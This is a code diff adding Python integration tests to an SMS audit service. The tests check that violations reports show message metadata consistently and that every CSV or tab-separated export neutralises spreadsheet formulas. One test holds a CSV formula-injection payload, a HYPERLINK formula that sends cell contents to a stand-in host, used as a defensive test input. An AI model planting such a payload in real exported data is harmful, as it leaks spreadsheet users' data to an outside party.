@@ -14,6 +14,7 @@ import orjson
 import pytest
 from starlette.testclient import TestClient
 
+from tests import payloads as p
 from tests.helpers import cli
 from tests.integration.test_audit import (
     ARRIVAL,
@@ -163,3 +164,66 @@ def test_audit_history_by_project(fed: TestClient, database_url: str) -> None:
 
     assert facts("PROJECT1") == ["KEYWORD_OPT_OUT", "OPT_IN_SUCCEEDED", "OPT_OUT_FAILED"]
     assert facts("ANOTHER") == []
+
+
+# ---- what the violations report shows, in every output --------------------------------------
+
+
+def test_violations_show_a_messages_metadata_as_its_page_does(
+    fed: TestClient, database_url: str
+) -> None:
+    shown = fed.get("/messages/B").json()["metadata"]
+    assert shown == "order-123"  # as sent (tests/payloads.py), not its keyed name
+    [violation] = orjson.loads(audit_cli(database_url, "violations", "--format", "json"))
+    assert violation["message_id"] == "B"
+    assert violation["metadata"] == shown and "metadata_shown" not in violation
+    [row] = csv.DictReader(io.StringIO(audit_cli(database_url, "violations", "--format", "csv")))
+    assert row["metadata"] == shown
+    report = fed.get("/console/compliance.csv")
+    assert report.status_code == 200
+    [exported] = csv.DictReader(io.StringIO(report.text))
+    assert (exported["message_id"], exported["metadata"]) == ("B", shown)
+
+
+def test_every_csv_the_cli_writes_neutralises_formulas(
+    client: TestClient, database_url: str
+) -> None:
+    # A message whose metadata a spreadsheet would run, to a number that had opted out; an
+    # inbound text that reads like a request to stop, starting with a formula.
+    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    feed(
+        client,
+        [
+            *ARRIVAL,
+            p.delivery(
+                "F", "QUEUED_ON_CHANNEL", "SMS", NUMBER, f"{DAY}12:40:00Z", metadata=formula
+            ),
+            p.inbound(
+                "IN-F", "-please stop texting me", identity=NUMBER, event_time=f"{DAY}12:45:00Z"
+            ),
+        ],
+    )
+    [review] = [
+        r
+        for r in csv.DictReader(io.StringIO(audit_cli(database_url, "review", "--format", "csv")))
+        if r["inbound_message_id"] == "IN-F"
+    ]
+    assert review["text"] == "'-please stop texting me"
+    # Piped (tab-separated, which a spreadsheet opens alike): the same.
+    piped = list(csv.reader(io.StringIO(audit_cli(database_url, "review")), "excel-tab"))
+    assert ["'-please stop texting me" in row for row in piped].count(True) == 1
+    # The compliance CSV and `audit violations`: one rule for both.
+    [violation] = [
+        r
+        for r in csv.DictReader(
+            io.StringIO(audit_cli(database_url, "violations", "--format", "csv"))
+        )
+        if r["message_id"] == "F"
+    ]
+    assert violation["metadata"] == "'" + formula
+    [exported] = [
+        r
+        for r in csv.DictReader(io.StringIO(client.get("/console/compliance.csv").text))
+        if r["message_id"] == "F"
+    ]
+    assert exported["metadata"] == violation["metadata"]
